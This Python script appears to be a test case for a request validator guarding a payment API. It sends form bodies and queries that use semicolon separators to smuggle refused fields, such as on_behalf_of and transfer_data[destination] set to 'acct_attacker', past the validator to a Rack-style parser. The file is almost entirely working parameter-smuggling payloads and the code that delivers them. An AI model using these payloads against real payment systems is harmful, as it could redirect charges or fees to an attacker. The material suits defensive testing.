# attack: a semicolon separates fields for Rack before version 3 and not for Python; the refused field hides behind it
# expect: broker
# validator: refused
import json
import re
import socket
import ssl
from urllib.parse import unquote_plus


def ask(target, method="GET", headers="", body=b""):
    """Status and what arrived at the API, None when nothing did."""
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(1)
        head = f"{method} {target} HTTP/1.1\r\nHost: api.stripe.com\r\nConnection: close\r\n{headers}"
        head += f"Content-Length: {len(body)}\r\n\r\n" if body else "\r\n"
        tls.sendall(head.encode("latin-1") + body)
        answer = b""
        while piece := tls.recv(65536):
            answer += piece
    head, _, text = answer.partition(b"\r\n\r\n")
    status = int(head.split()[1])
    return status, json.loads(text).get("echo") if status == 200 else None


def as_rack_reads(form):
    """Field names as Rack 2 finds them in a form: it splits at & and ; and skips blanks, then decodes."""
    for part in re.split("[&;] *", form):
        name = unquote_plus(part.partition("=")[0])
        yield re.sub(r"^[\[\]]*([^\[\]]*).*$", r"\1", name, flags=re.DOTALL)


FORM = "Content-Type: application/x-www-form-urlencoded\r\n"
BODIES = (
    b"amount=1;on_behalf_of=acct_attacker",
    b"amount=1&description=a;transfer_data[destination]=acct_attacker",
    b"amount=1&description=a; application_fee_amount=1",
    b";on_behalf_of=acct_attacker",
    b"amount=1%3Bon_behalf_of=acct_attacker",
    b"amount=1&a=%26on_behalf_of=acct_attacker",
)

for body in BODIES:
    status, arrived = ask("/v1/payment_intents", "POST", FORM, body)
    print(body[:60], status)
    if arrived:
        fields = {name.strip().lower() for name in as_rack_reads(arrived["body"])}
        if fields & {"on_behalf_of", "transfer_data", "application_fee_amount"}:
            print("ESCAPED: a Ruby server reads", fields, "in", arrived["body"][:80], flush=True)

# In the query too, where the same separator counts.
for query in ("amount=1;on_behalf_of=acct_attacker", "a=b;%20transfer_data[destination]=acct_attacker"):
    status, arrived = ask(f"/v1/payment_intents?{query}", "POST", FORM, b"amount=1")
    print(query, status)
    if arrived and {"on_behalf_of", "transfer_data"} & set(as_rack_reads(arrived["target"].partition("?")[2])):
        print("ESCAPED: a Ruby server reads the query", arrived["target"], flush=True)
